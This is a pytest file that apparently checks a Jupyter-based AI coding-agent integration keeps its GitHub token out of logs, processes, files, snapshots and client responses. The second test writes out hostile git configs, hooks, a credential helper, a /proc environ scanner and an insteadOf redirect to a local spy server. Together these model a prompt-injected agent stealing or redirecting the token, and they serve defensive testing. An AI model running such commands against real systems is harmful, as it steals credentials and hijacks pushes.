"""The GitHub token goes nowhere but the server process and the one git process using it.

Threat: a token that leaks into a place the agent, the notebook, the browser or a backup can read
is a token an attacker (or a prompt-injected agent) can push with. The test drives the whole path
through a real kernel (login, whoami, repos, start, a prompt, push with cells and a pull request),
reads the event stream over the WebSocket, pauses the session into a snapshot, and then looks for
the token in: every log record of the run, every process's environment and command line (OpenCode's
included, found positively so the scan cannot pass vacuously), every file under the sandbox and
snapshot folders (inside the snapshot archives too), every API and WebSocket response, and every
output the kernel received.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import shutil
import threading
from http.server import ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import nbformat
import pytest

from tests.conftest import git
from tests.support.git_remote import QuietHandler
from tests.support.llm import Reply, bash, write
from tests.support.snapshots import open_archive
from tests.test_github import USER, github, sign_in_web, tabbi_config  # noqa: F401  (fixtures used here)
from tests.test_sessions import opencode_pids

pytestmark = pytest.mark.timeout(300)


class Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.lines.append(self.format(record))
        except Exception:  # a record that cannot format is still scanned by its parts
            self.lines.append(f"{record.msg} {record.args}")


def process_texts() -> dict[int, bytes]:
    """environ + cmdline of every process this user can read."""
    out = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as env, open(f"/proc/{entry}/cmdline", "rb") as cmd:
                out[int(entry)] = env.read() + b"\n" + cmd.read()
        except OSError:
            continue
    return out


def files_under(*roots: Path) -> dict[str, bytes]:
    """Every regular file's bytes, and every member of a snapshot archive, by path."""
    out = {}
    for root in roots:
        for path in root.rglob("*"):
            if path.is_symlink() or not path.is_file():
                continue
            out[str(path)] = path.read_bytes()
            if path.name.endswith(".snapshot"):
                with open_archive(path) as archive:
                    for member in archive.getmembers():
                        if member.isfile():
                            out[f"{path}!{member.name}"] = archive.extractfile(member).read()
    return out


async def test_the_token_reaches_no_log_process_file_snapshot_or_client(
    kernel, api, jp_fetch, jp_ws_fetch, jp_serverapp, jp_root_dir, github, llm, data_dir, tmp_path  # noqa: F811
):
    collect = Collect()
    collect.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
    loggers = [logging.getLogger(), jp_serverapp.log, logging.getLogger("tornado.access")]
    for logger in loggers:
        logger.addHandler(collect)
    previous_level = logging.getLogger().level
    logging.getLogger().setLevel(logging.DEBUG)
    responses: list[str] = []
    call = api.call

    async def recording_call(*args, **kwargs):
        code, body = await call(*args, **kwargs)
        responses.append(json.dumps(body))
        return code, body

    api.call = recording_call
    outputs = []
    try:
        # The kernel records every answer its client gets from the server, to scan afterwards.
        record = tmp_path / "kernel-responses.jsonl"
        setup = await kernel.run(
            "%load_ext tabbi_kernel\n"
            "import json, tabbi_kernel.client as _c\n"
            "_request = _c.Client.request\n"
            "def _recording(self, *a, **k):\n"
            "    answer = _request(self, *a, **k)\n"
            f"    with open({str(record)!r}, 'a') as f: f.write(json.dumps(answer) + '\\n')\n"
            "    return answer\n"
            "_c.Client.request = _recording\n"
        )
        assert setup.status == "ok", setup

        login = await kernel.run("%tabbi login")
        outputs.append(login)
        assert login.status == "ok", login
        plain = login.displays[0]["text/plain"]
        url = plain.split("Sign in to GitHub: ")[1].split()[0]
        async with httpx.AsyncClient() as browser:
            consent = await browser.get(url)
        callback = parse_qs(urlsplit(consent.headers["location"]).query)
        page = await jp_fetch("tabbi", "github", "callback", params={k: v[0] for k, v in callback.items()})
        assert b"Signed in as octo" in page.body

        whoami = await kernel.run("%tabbi whoami")
        outputs.append(whoami)
        assert "signed in to GitHub as octo" in whoami.stdout, whoami
        repos = await kernel.run("%tabbi repos sam")
        outputs.append(repos)
        assert "octo/sample" in repos.displays[0]["text/plain"]

        started = await kernel.run("%tabbi start octo/sample")
        outputs.append(started)
        assert "[tabbi] ready" in started.stdout, started
        sid = started.stdout.split("[tabbi] session ")[1].split()[0]
        ws = await jp_ws_fetch("tabbi", "api", "sessions", sid, "stream", params={"after": 0})

        llm.enqueue(Reply(tools=[write("clean.py", "def clean(rows):\n    return rows\n")]),
                    Reply(text="Added clean.py."))
        asked = await kernel.run("%%tabbi\nadd a clean function")
        outputs.append(asked)
        assert "Added clean.py." in asked.stdout, asked

        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell("rows = clean([1, 2])", metadata={"tags": ["ship"]})]
        nbformat.write(nb, jp_root_dir / "work.ipynb")
        pushed = await kernel.run(
            f"%tabbi push -m 'Clean rows' --pr --cells ship --notebook {jp_root_dir / 'work.ipynb'}"
        )
        outputs.append(pushed)
        assert pushed.status == "ok", pushed
        shown = pushed.displays[0]["text/plain"]
        assert "pull request #1" in shown and "/octo/sample/commit/" in shown, shown
        assert "notebooks/work-ship.py" in shown
        bare = github.root / "octo" / "sample.git"
        assert (bare / "refs" / "heads").exists()

        ws_messages = []
        while True:
            message = await asyncio.wait_for(ws.read_message(), 60)
            assert message is not None
            ws_messages.append(message)
            if json.loads(message)["type"] == "push.completed":
                break
        ws.close()

        # OpenCode runs, and is found, while its environment and argv are scanned.
        oc = opencode_pids(sid)
        assert oc, "OpenCode's process was not found"
        procs = process_texts()
        assert all(pid in procs for pid in oc)

        await api.ok("POST", f"tabbi/api/sessions/{sid}/pause")
        snapshots = list((data_dir / "snapshots").rglob("*.snapshot"))
        assert snapshots, "the pause left no snapshot to scan"
        files = files_under(data_dir / "sandboxes", data_dir / "snapshots")
        assert any(name.endswith("clean.py") for name in files)
        assert any("!" in name for name in files), "snapshot members were scanned"
        kernel_answers = record.read_text()
        assert "octo" in kernel_answers
    finally:
        api.call = call
        for logger in loggers:
            logger.removeHandler(collect)
        logging.getLogger().setLevel(previous_level)

    secrets = {t["access_token"] for t in github.issued} | {github.client_secret}
    assert len(github.issued) == 1
    places: dict[str, bytes] = {
        "logs": "\n".join(collect.lines).encode(),
        "api responses": "\n".join(responses).encode(),
        "websocket": "\n".join(ws_messages).encode(),
        "kernel responses": kernel_answers.encode(),
        "kernel outputs": json.dumps([o.__dict__ for o in outputs], default=str).encode(),
        **{f"process {pid}": text for pid, text in procs.items()},
        **{f"file {name}": data for name, data in files.items()},
    }
    assert len(collect.lines) > 20, "the log capture caught the run"
    for secret in secrets:
        leaks = [where for where, data in places.items() if secret.encode() in data]
        assert not leaks, f"a secret leaked into: {leaks}"
    assert USER["login"] in places["kernel outputs"].decode()


class Spy:
    """A listener the agent points git at: it asks for Basic credentials and records them."""

    def __init__(self) -> None:
        spy = self
        self.authorizations: list[str] = []

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                spy.authorizations.append(self.headers.get("Authorization") or "")
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="spy"')
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


#: What a hostile agent leaves running: it scans every process's environment it can see for the
#: credential, and rewrites the config of any push repository it can reach to point at its spy.
SCANNER = """nohup sh -c 'for i in $(seq 1 600); do
  grep -a -h TABBI_GIT /proc/[0-9]*/environ >> {ws}/.spy-scan 2>/dev/null
  for d in $HOME/tmp/push-* /tmp/tabbi-push-*/push.git; do
    [ -d "$d" ] && git --git-dir="$d" config url.{spy}.insteadOf {github}/ ; done
  sleep 0.02; done' >/dev/null 2>&1 &"""


async def test_a_hostile_workspace_cannot_catch_or_redirect_the_token(
    api, jp_fetch, github, llm, workspace, tabbi_app  # noqa: F811
):
    """Threat: the agent controls the workspace's .git (config, hooks, attributes) and its own
    home, and can leave processes running. None of that may see or redirect the token: not a
    clean filter or fsmonitor started by `git add`, not a pre-push hook, not a scanner of /proc,
    not an insteadOf slipped into the push repository, and not a poisoned ~/.gitconfig when the
    workspace is cloned again."""
    spy = Spy()
    try:
        await sign_in_web(api, jp_fetch, github)
        session = await api.create("octo/sample")
        sid = session["id"]
        await api.wait_state(sid, "running")
        ws = workspace(sid)
        home = ws.parent / "home"
        dump = f"env >> {ws}/.spy-dump"
        (ws / ".gitattributes").write_text("* filter=spy\n")
        with open(ws / ".git" / "config", "a") as config:
            config.write(
                f'[filter "spy"]\n\tclean = "sh -c \'{dump}; cat\'"\n'
                f"[core]\n\tfsmonitor = \"sh -c '{dump}'\"\n"
                f'[url "{spy.url}"]\n\tinsteadOf = {github.base_url}/\n'
                f'[credential]\n\thelper = "!sh -c \'cat >> {ws}/.spy-helper\'"\n'
            )
        hook = ws / ".git" / "hooks" / "pre-push"
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\n{dump}\n")
        hook.chmod(0o755)
        scanner = SCANNER.format(ws=ws, spy=spy.url.rstrip("/"), github=github.base_url)
        llm.enqueue(Reply(tools=[bash(scanner)]), Reply(text="watching"))
        await api.prompt(sid, "keep an eye on things")
        await api.wait_turn(sid)
        (ws / "work.txt").write_text("the work\n")

        pushed = await api.ok("POST", f"tabbi/api/sessions/{sid}/push", {"message": "work"})
        bare = github.root / "octo" / "sample.git"
        assert git("rev-parse", session["work_branch"], cwd=bare) == pushed["commit"]
        token = github.issued[-1]["access_token"]
        # The hostile parts did run (the filter during `git add`, the scanner all along)...
        assert (ws / ".spy-dump").exists() and (ws / ".spy-scan").exists()
        # ...and caught nothing.
        for name in (".spy-dump", ".spy-scan", ".spy-helper"):
            path = ws / name
            assert not path.exists() or token.encode() not in path.read_bytes(), name

        # A later start clones again (the workspace is gone) with a home the agent poisoned.
        hooks = home / "hooks"
        hooks.mkdir(exist_ok=True)
        (hooks / "post-checkout").write_text(f"#!/bin/sh\nenv >> {home}/.spy-clone\n")
        (hooks / "post-checkout").chmod(0o755)
        (home / ".gitconfig").write_text(
            f'[url "{spy.url}"]\n\tinsteadOf = {github.base_url}/\n[core]\n\thooksPath = {hooks}\n'
        )
        for pid in opencode_pids(sid):
            os.kill(pid, 9)
        failed = await api.wait_for(
            sid, lambda e: e["type"] == "session.status" and e["data"]["state"] == "error")
        shutil.rmtree(ws)  # no workspace and no snapshot left: the next start clones
        for snapshot in await tabbi_app.store.list_snapshots(sid):
            await tabbi_app.store.delete_snapshot(sid, snapshot.id)
        llm.enqueue(Reply(text="back"))
        await api.prompt(sid, "again")
        await api.wait_state(sid, "running", after=failed[-1]["seq"])
        assert (ws / "calc.py").exists(), "cloned again, from GitHub, not from the spy"
        assert not (home / ".spy-clone").exists(), "no hook ran beside the credentialed clone"
        assert not [a for a in spy.authorizations if a], spy.authorizations
    finally:
        spy.stop()
